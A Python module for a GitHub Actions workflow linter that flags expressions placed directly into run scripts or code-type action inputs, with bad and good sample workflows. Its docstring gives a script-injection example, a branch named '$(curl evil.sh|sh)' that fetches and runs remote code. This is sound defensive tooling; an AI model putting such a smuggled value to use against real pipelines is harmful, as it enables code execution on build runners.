"""Scripts read values from the environment, not by `${{ }}` within their text.

GitHub puts the value into the script before the shell reads it, so a branch named `$(curl evil.sh|sh)` is a command. Even a value that is
harmless today makes the script one that cannot be read, tested or quoted by itself. What a stranger decides is reported as
`untrusted-input` instead.
https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
"""

from __future__ import annotations

import re

from synth.checks.subject import Found, Subject
from synth.checks.texts import Text, part_at, texts
from synth.expr.tree import Constant
from synth.expr.untrusted import untrusted
from synth.model import Step

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

LEVEL = "policy"
SEVERITY = "error"  # warning for values that GitHub or the file itself decides
BAD = """
name: Build
on: push
permissions: {}
concurrency:
  group: build-${{ github.ref }}
jobs:
  build:
    name: Build
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    permissions:
      contents: read
    steps:
      - run: ./release "${{ github.ref_name }}"
"""
GOOD = """
name: Build
on: push
permissions: {}
concurrency:
  group: build-${{ github.ref }}
jobs:
  build:
    name: Build
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    permissions:
      contents: read
    steps:
      - run: ./release "$TAG"
        env:
          TAG: ${{ github.ref_name }}
"""
SCRIPTS = {  # inputs that are code, by action
    "actions/github-script": ("script",),
    "amadevus/pwsh-script": ("script",),
    "appleboy/ssh-action": ("script",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "cardinalby/js-eval-action": ("expression",),
    "jannekem/run-python-script-action": ("script",),
    "nick-fields/retry": ("command", "new_command_on_retry", "on_retry_command"),
}
_OURS = re.compile(  # what no run can be started with
    r"\s*(github\.(sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|event_name|workflow|workflow_sha"
    r"|job|api_url|server_url|graphql_url|workspace|action_path|action|token|actor_id|retention_days|secret_source)"
    r"|(matrix|strategy|runner|job)\.[\w.-]+|(secrets|vars)\.\w+)\s*",
    re.IGNORECASE,
)


def check(subject: Subject) -> Iterator[Found]:
    for text in texts(subject, "${{"):
        place = _script(text, subject)
        if not place:
            continue
        for offset, read in text.expressions():
            if isinstance(read.tree, Constant) or any([True for _ in untrusted(read)]):
                continue
            name = read.text.strip()
            severity = "warning" if _OURS.fullmatch(read.text) else ""
            message = f"the value of {name} becomes part of the {place}'s code"
            yield Found(text.inside(offset), message, "give it to the step under 'env', and read the variable", severity)


def _script(text: Text, subject: Subject) -> str:
    """What the text is when it is code: script, or an input; else nothing."""
    if text.path[-1] == "run" and isinstance(text.path[-2], int):
        return "script"
    if len(text.path) > 2 and text.path[-2] == "with":
        step = part_at(subject.part, text.path[:-2])
        name = step.uses.reference.partition("@")[0].lower() if isinstance(step, Step) and step.uses else ""
        if str(text.path[-1]).lower() in SCRIPTS.get(name, ()):
            return f"input '{text.path[-1]}'"
    return ""
